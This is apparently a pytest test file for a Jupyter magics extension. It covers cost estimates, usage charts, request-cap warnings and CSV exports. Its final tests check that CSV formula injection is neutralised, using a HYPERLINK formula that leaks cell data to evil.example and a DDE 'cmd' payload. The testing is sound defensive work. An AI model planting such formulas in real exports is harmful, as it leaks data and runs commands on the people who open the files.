"""Costs, the chart, cap warnings and exports as a notebook user meets them, through a real
InteractiveShell against the emulator (and, for a pricing endpoint that fails or hangs, a small
hostile server of our own)."""

from __future__ import annotations

import csv
import re
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest

from routing_magics.api.client import RoutingClient
from routing_magics.display.money import usd
from routing_magics.emulator import Emulator
from routing_magics.ledger.export import COLUMNS

from ..helpers import Harness, magic_harness, one_line
from ..hostile import HostileServer, Script, chunk, pricing_down, reply, sse


@pytest.fixture
def h(emu: Emulator, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Harness]:
    with magic_harness(emu, tmp_path, monkeypatch, display="text") as harness:
        yield harness


def footer(h: Harness) -> str:
    lines = [line for line in h.cells[-1].stdout.splitlines() if line.startswith("[route/")]
    assert lines, h.cells[-1].stdout
    return lines[-1].strip("[]")


def tokens(line: str) -> tuple[int, int]:
    match = re.search(r"([\d,]+) in / ([\d,]+) out", line)
    assert match is not None
    return int(match.group(1).replace(",", "")), int(match.group(2).replace(",", ""))


def test_the_footer_estimates_cost_from_the_served_prices(h: Harness) -> None:
    h.ok("%%route route/kimi-k2.5\necho: hello there")
    first = footer(h)
    n_in, n_out = tokens(first)
    cost = (n_in * 0.46 + n_out * 2.42) / 1e6  # the emulator's price for route/kimi-k2.5
    assert f"out · ≈ {usd(cost)} · notebook ≈ {usd(cost)} · notebook total" in first
    h.ok("%%route route/mistral-small-2503\necho: hi")  # routing.run lists no Mistral price
    second = footer(h)
    assert f"out · cost — · notebook ≈ {usd(cost)} (priced routes only)" in second
    assert "$0 " not in second
    assert len([r for r in h.emu.requests if r.path == "/v1/pricing"]) == 1  # once a session


def test_models_missing_from_the_price_list_show_a_dash(h: Harness) -> None:
    h.emu.pricing = [{"model": "route/glm-5", "input_per_million": 1, "output_per_million": 2}]
    h.ok("%%route route/kimi-k2.5\necho: hi")
    assert "out · cost — · notebook total" in footer(h)


def test_an_absurd_price_shows_a_dash_never_inf(h: Harness) -> None:
    h.emu.pricing = [{"model": "route/kimi-k2.5", "input_per_million": 1e308,
                      "output_per_million": 1e308}]  # fmt: skip
    h.ok("%%route route/kimi-k2.5\necho: hi")
    line = footer(h)
    assert "out · cost — · notebook total" in line
    path = h.db.parent / "usage.csv"
    shown = h.ok(f"%route usage --csv {path}")
    table = h.ok("%route usage").final_plain()
    for text in (line, shown.stdout, table, path.read_text()):
        assert "inf" not in text.lower()
    assert pd.read_csv(path)["cost_usd"].isna().all()


def test_usage_shows_the_cost_column_chart_and_account_caps(h: Harness) -> None:
    h.ok("%%route route/glm-5\necho: one two")
    h.ok("%%route route/mistral-small-2503\necho: three")
    shown = h.ok("%route usage")
    text = shown.final_plain()
    assert "≈ cost" in text and "—: no published price." in text
    assert re.search(r"^total .* \$0\.\d+$", text, re.M)
    assert "Tokens per day, last 30 days, this notebook" in text
    assert "(GET /v1/pricing); the service's bill is what counts." in text
    account = re.search(r"today +(\d+) +1,500 +(\d[\d,]*)", text)
    assert account and account.groups() == ("2", "1,498")
    assert re.search(r"this hour +2 +500 +498", text) and "this minute" in text
    html = shown.final_html()
    assert "<svg" in html and html.count('class="series"') == 2
    assert "tex2jax_ignore mathjax_ignore" in html
    assert "Tokens per hour today" in h.ok("%route usage --today").final_plain()
    assert "last 30 days, all notebooks" in h.ok("%route usage --all").final_plain()


def test_minus_o_binds_a_dataframe_and_csv_writes_the_same_rows(h: Harness) -> None:
    h.ok("%%route route/kimi-k2.5\necho: hello")
    h.ok("%%route route/mistral-small-2503\necho: hi")
    path = h.db.parent / "usage.csv"
    cell = h.ok(f"%route usage -o frame --csv {path}")
    assert "Wrote 2 usage rows" in cell.stdout and "frame: a pandas DataFrame" in cell.stdout
    frame = h.shell.user_ns["frame"]
    assert isinstance(frame, pd.DataFrame) and tuple(frame.columns) == COLUMNS
    assert frame["model"].tolist() == ["route/kimi-k2.5", "route/mistral-small-2503"]
    kimi = frame.iloc[0]
    expected = (kimi.prompt_tokens * 0.46 + kimi.completion_tokens * 2.42) / 1e6
    assert kimi.cost_usd == pytest.approx(expected) and pd.isna(frame.iloc[1].cost_usd)
    back = pd.read_csv(path)
    assert back["total_tokens"].tolist() == frame["total_tokens"].tolist()
    assert back["cost_usd"].iloc[0] == pytest.approx(expected)


def test_csv_onto_an_existing_file_is_refused_unless_overwrite(h: Harness) -> None:
    h.ok("%%route route/kimi-k2.5\necho: hello")
    path = h.db.parent / "notes.csv"
    path.write_text("the user's own notes\n")
    message = one_line(h.run(f"%route usage -o frame --csv {path}").error)
    assert message == (
        f"--csv {path}: that file exists; add --overwrite to replace it, or choose another path"
    )
    assert path.read_text() == "the user's own notes\n" and "frame" not in h.shell.user_ns
    cell = h.ok(f"%route usage --csv {path} --overwrite")
    assert "Wrote 1 usage rows" in cell.stdout
    assert pd.read_csv(path)["model"].tolist() == ["route/kimi-k2.5"]


@pytest.mark.parametrize(
    ("line", "message"),
    [
        ("%route usage -o", "-o needs a value"),
        ("%route usage -o 1x", "not a Python variable name"),
        ("%route usage -o In", "-o In: that name belongs to Python or IPython"),
        ("%route usage --weekly", "unknown option --weekly"),
        ("%route usage --reset --today", "drop the other options"),
        ("%route usage --overwrite", "--overwrite goes with --csv PATH: it lets the file be"),
    ],
)
def test_bad_usage_options_are_one_line_errors(h: Harness, line: str, message: str) -> None:
    history = h.shell.user_ns["In"]
    assert message in one_line(h.run(line).error)
    assert h.shell.user_ns["In"] is history


def _spend(emu: Emulator, requests: int) -> None:
    """Use up `requests` of today's cap from elsewhere (another tool on the same account)."""
    with RoutingClient("rk_other", emu.base_url, None) as client:
        for _ in range(requests):
            client.complete("route/glm-5", [{"role": "user", "content": "echo: x"}])


def test_the_footer_warns_from_80_percent_of_the_daily_cap(h: Harness) -> None:
    h.emu.daily_limit = 100
    _spend(h.emu, 78)
    h.ok("%%route route/glm-5\necho: seventy-nine")
    assert "⚠" not in footer(h)  # 79 of 100
    h.ok("%%route route/glm-5\necho: eighty")
    assert footer(h).endswith("⚠ 80 of 100 requests used today")


def test_after_the_cap_the_error_says_when_it_resets(h: Harness) -> None:
    h.emu.daily_limit = 1
    h.ok("%%route route/glm-5\necho: one")
    assert footer(h).endswith("⚠ 1 of 1 requests used today")
    message = one_line(h.run("%%route route/glm-5\necho: two").error)
    assert "DAILY_REQUEST_LIMIT_EXCEEDED" in message
    assert re.search(r"resets at midnight UTC \(\d\d:\d\d \S+ (today|tomorrow), in ", message)


@pytest.mark.parametrize("hang", [False, True], ids=["fails", "hangs"])
def test_a_failing_or_hanging_price_list_means_no_cost_and_no_long_wait(
    h: Harness, hang: bool
) -> None:
    arrived = threading.Event()
    with HostileServer(pricing_down(hang=hang, arrived=arrived)) as server:
        h.ok(f"%config RouteMagics.base_url = '{server.base_url}'")
        h.ok("%%route route/glm-5\nhello")
        line = footer(h)
        assert "3 in / 1 out" in line and "$" not in line and "cost" not in line
        assert arrived.is_set()
        # A hanging endpoint still holds the request: the cell did not wait for it.
        assert not server.release.is_set()
        assert "No costs" in h.ok("%route usage").final_plain()


# --- what a hostile server's names do to a spreadsheet (issue 21) ----------------------------


def names_as(model: str, provider: str) -> Script:
    """Chat answers that say they came from `model` via `provider`; nothing else is served."""

    def script(conn: socket.socket, server: HostileServer) -> None:
        if not server.requests[-1].startswith(b"POST"):
            return reply(404, b"Not found", "text/plain")(conn, server)
        usage = {"prompt_tokens": 3, "completion_tokens": 1, "total_tokens": 4}
        answer = chunk("hi", "stop", usage=usage) | {"model": model, "provider": provider}
        return reply(200, sse(answer, "data: [DONE]\n\n"), "text/event-stream")(conn, server)

    return script


def csv_rows_after(h: Harness, server: HostileServer) -> list[dict[str, str]]:
    """One cell answered by `server`, then `%route usage --csv`, read back."""
    with server:
        h.ok(f"%config RouteMagics.base_url = '{server.base_url}'")
        h.ok("%%route route/glm-5\nhello")
    path = h.db.parent / "usage.csv"
    h.ok(f"%route usage --csv {path}")
    with open(path, newline="", encoding="utf-8") as source:
        return list(csv.DictReader(source))


def test_formulas_in_served_names_reach_the_csv_as_text(h: Harness) -> None:
    model = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")'
    provider = "=cmd|' /C calc'!A0"
    (row,) = csv_rows_after(h, HostileServer(names_as(model, provider)))
    assert (row["model"], row["provider"]) == ("'" + model, "'" + provider)


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r", " ="])
def test_no_csv_cell_starts_a_formula(h: Harness, lead: str) -> None:
    (row,) = csv_rows_after(h, HostileServer(names_as(f"{lead}1+2", f"{lead}SUM(A1:A9)")))
    assert row["model"] == f"'{lead}1+2" and row["provider"] == f"'{lead}SUM(A1:A9)"
    assert row["notebook"] == h.magics.session.notebook  # ordinary text stays as it was
    assert row["total_tokens"] == "4"
